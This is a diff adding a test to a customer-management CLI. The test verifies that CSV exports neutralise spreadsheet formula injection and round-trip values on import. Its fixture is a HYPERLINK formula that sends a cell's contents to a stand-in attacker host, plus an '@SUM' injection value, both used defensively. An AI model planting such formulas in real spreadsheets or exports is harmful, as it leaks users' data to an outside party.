@@ -293,3 +293,36 @@ def test_value_refuses_unknown_teams_and_owners(
     value_fixture(run)
     result = run("customer", "value", *args)
     assert result.exit_code == 2 and message in result.output, result.output
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+
+
+def test_csv_output_never_starts_a_formula_and_reads_back_as_it_was(
+    run: Any, tmp_path: Path
+) -> None:
+    """OWASP's CSV injection (issue 10): every CSV flowkit writes guards a cell a spreadsheet
+    would run; `customer import` of the export gives the value back exactly."""
+    added = run("customer", "add", FORMULA, "--owner", "li.lei", "--needs", "@SUM(A1)")
+    assert added.exit_code == 0
+    assert run("customer", "add", "--owner", "li.lei", "--", "-5").exit_code == 0
+    for args in (
+        ("customer", "list"),
+        ("customer", "check", "--by", "customer"),
+        ("customer", "value", "--by", "customer"),
+    ):
+        result = run(*args, "--format", "csv")
+        assert result.exit_code == 0, result.output
+        cells = [c for row in csv.reader(io.StringIO(result.output)) for c in row]
+        assert "'" + FORMULA in cells, args
+        assert FORMULA not in cells and "-5" in cells, args  # a number-like name stays
+    out = tmp_path / "export.csv"
+    assert run("customer", "export", str(out)).exit_code == 0
+    basic = tmp_path / "export-客户基础信息表.csv"
+    with basic.open(encoding="utf-8-sig", newline="") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    assert "'" + FORMULA in cells and "'@SUM(A1)" in cells
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+    assert run("customer", "import", str(out), db="again.db").exit_code == 0
+    shown = json.loads(run("customer", "show", "C00001", "--format", "json", db="again.db").output)
+    assert (shown["customer"]["name"], shown["customer"]["needs"]) == (FORMULA, "@SUM(A1)")
